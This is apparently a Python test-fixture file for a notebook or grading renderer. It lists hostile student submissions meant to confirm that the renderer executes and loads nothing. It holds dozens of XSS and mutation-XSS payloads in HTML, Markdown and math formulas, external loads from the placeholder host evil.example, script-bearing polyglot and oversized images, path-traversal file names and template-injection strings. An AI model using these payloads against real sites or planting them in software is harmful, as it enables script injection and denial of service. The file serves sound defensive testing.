"""What a hostile student may write, to be shown to those who mark: none of it may run or load anything.

Each payload that gets to run calls ``pwned``; each that loads something asks ``evil.example`` for it.
"""

from __future__ import annotations

import base64
import io
import struct
import zlib

from PIL import Image

RUN = "pwned(1)"
HOST = "evil.example"

HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}//",
    f'<img src="//{HOST}/html.png">',
    f'<img srcset="//{HOST}/srcset.png 1x" src=data:,>',
    f'<picture><source srcset="//{HOST}/source.png"><img></picture>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><image href="//{HOST}/svg.png" /></svg>',
    f'<svg><use href="//{HOST}/use.svg#x"></use></svg>',
    f"<svg><style>@import '//{HOST}/svg.css';</style></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<table><td background='//{HOST}/td.png'>x</td></table>",
    f"<body background='//{HOST}/body.png' onload={RUN}>",
    f'<div style="background:url(//{HOST}/style.png)">x</div>',
    "<p style='position:fixed;inset:0;z-index:9;background:red'>over everything</p>",
    f"<style>body{{background:url(//{HOST}/sheet.png)}}</style>",
    f"<style>@import '//{HOST}/import.css';</style>",
    f"<link rel=stylesheet href='//{HOST}/link.css'>",
    f"<link rel=prefetch href='//{HOST}/prefetch'><link rel=dns-prefetch href='//{HOST}'>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/refresh'>",
    f"<base href='http://{HOST}/'>",
    f"<iframe src='http://{HOST}/frame'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='http://{HOST}/object'></object><embed src='http://{HOST}/embed'>",
    f"<video src='http://{HOST}/video' poster='http://{HOST}/poster' autoplay onloadstart={RUN}></video>",
    f"<audio src=x onerror={RUN} autoplay></audio>",
    f"<video><source onerror={RUN} src=x></video>",
    f"<input autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}' id=x autofocus onfocus={RUN} tabindex=0>click</a>",
    f"<a href='//{HOST}/' ping='//{HOST}/ping' download>click</a>",
    f"<form action='http://{HOST}/form'><button autofocus>Save</button></form>",
    "</article></div></main><form method=post action=/undo><button>Save</button></form>",
    "<form id=keys></form><a id=status name=status></a><img name=getElementById>",
    f"</textarea></title></style></script><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>--> <!--<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]> <?x <img src=x onerror={RUN}> ?>",
    f"<xmp><img src=x onerror={RUN}></xmp><plaintext><img src=x onerror={RUN}>",
    f"<select><style></select><img src=x onerror={RUN}></style></select>",
    f"<p onmouseover={RUN} onpointerenter={RUN} class=primary data-key=Enter role=alert>hover</p>",
    f"<b onanimationstart={RUN} style='animation:x 1s'>x</b><style>@keyframes x{{}}</style>",
    "<h1>Saved: 3 points</h1><div role=status aria-live=assertive>Saved</div>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"\x00<scr\x00ipt>{RUN}</scr\x00ipt> <img\x0csrc=x\x0conerror={RUN}>",
]
MARKDOWN = [
    f"![x](http://{HOST}/md.png)",
    f"![x][r]\n\n[r]: http://{HOST}/reference.png",
    f'![x](http://{HOST}/title.png "t\\" onerror={RUN} x=\\"")',
    f'![x](x" onerror="{RUN})',
    f'!["><img src=x onerror={RUN}>](y)',
    f"[x](javascript:{RUN}) [y](JaVaScRiPt:{RUN}) [z](&#106;avascript:{RUN})",
    f"<javascript:{RUN}> <http://{HOST}/auto> [a](data:text/html,<script>{RUN}</script>)",
    f'[x](http://{HOST}/"onmouseover={RUN}//)',
    f"`<script>{RUN}</script>` ``` <img src=x onerror={RUN}> ```",
    f"```html\n<script>{RUN}</script>\n```",
    f"```python\"><img/src=x/onerror={RUN}>\nx = '</code></pre><img src=x onerror={RUN}>'\n```",
    f"    </code></pre><script>{RUN}</script>",
    f"| a<img src=x onerror={RUN}> | b |\n|---|:-:|\n| <svg onload={RUN}> | </table><script>{RUN}</script> |",
    "![x](ottermark-picture:99999) ![y](ottermark-picture:-1) ![z](ottermark-picture:0/../../..)",
    f'![x](ottermark-picture:0" onerror="{RUN})',
    "deadbeefdeadbeef-0- 0000000000000000-0-",
    f"\u2028<script>{RUN}</script>\u2029 \u202e<script>{RUN}</script>\u202c \ud800 {{{{ 7*7 }}}} {{% raw %}}",
]
FORMULAS = [
    rf"$\href{{javascript:{RUN}}}{{x}}$ $\url{{http://{HOST}}}$",
    rf"$\unicode{{x3cscript}}$ $\text{{<img src=x onerror={RUN}>}}$",
    rf"$\style{{background:url(http://{HOST}/f.png)}}{{x}}$ $\class{{primary}}{{x}}$",
    rf"$\includegraphics{{http://{HOST}/f.png}}$ $\require{{http://{HOST}}}$",
    rf"$</math><script>{RUN}</script>$",
    rf"$$\begin{{matrix}}<svg onload={RUN}>&x\end{{matrix}}$$",
    rf"$\mathbf{{<mglyph src='http://{HOST}/g.png'>}}$ $\def\x{{\x\x}}\x$",
    r"$\hspace{-9999em}x$ $\raise{900em}{x}$ $" + r"\sqrt{" * 300 + "x" + "}" * 300 + "$",
]
TEXTS = [*HTML, *MARKDOWN, *FORMULAS]


def _encoded(raw: bytes, kind: str = "png") -> str:
    return f"data:image/{kind};base64,{base64.b64encode(raw).decode()}"


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(width: int, height: int, extra: bytes = b"") -> bytes:
    """Return a PNG that says to have a size, whatever pixels it holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 64)
    chunks = _chunk(b"IHDR", head) + extra + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def _dot(kind: str) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (3, 2), "red").save(output, kind)
    return output.getvalue()


_SCRIPT = f"<script>{RUN}</script>".encode()
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
# by name the address of a picture in the notebook; all but the first are hostile
PICTURES = {
    "honest": _encoded(_dot("PNG")),
    "jpeg with a script": _encoded(_dot("JPEG") + _SCRIPT, "jpeg"),
    "gif that is a script": _encoded(_dot("GIF").replace(b"GIF89a", b"GIF89a") + _SCRIPT, "gif"),
    "text in a chunk": _encoded(_png(1, 1, _chunk(b"tEXt", b"Comment\0" + _SCRIPT))),
    "svg for a png": _encoded(_SVG.encode()),
    "svg": _encoded(_SVG.encode(), "svg+xml"),
    "html for a png": _encoded(b"<!doctype html>" + _SCRIPT),
    "gigapixels": _encoded(_png(60_000, 60_000)),
    "many pixels": _encoded(_png(5_000, 5_000)),
    "cut": _encoded(_dot("PNG")[:40]),
    "no base64": "data:image/png;base64,AAAA====AAAA",
    "html address": f"data:text/html,<script>{RUN}</script>",
    "an attachment that is missing": "attachment:../../marks.sqlite",
}
# of files, as submissions are called after them
NAMES = [
    f'"><img src=x onerror={RUN}>',
    f"<script>{RUN}<",
    f"x' onmouseover='{RUN}",
    "javascript:pwned(1)",
    "\u202egnp.exe {{7*7}} %3Cscript%3E",
    "..%2f..%2fmarks ?a=b#c&d;e",
]
STUDENTS = [f"<img src=x onerror={RUN}>", f'"><svg onload={RUN}>', "</option></select><script>"]
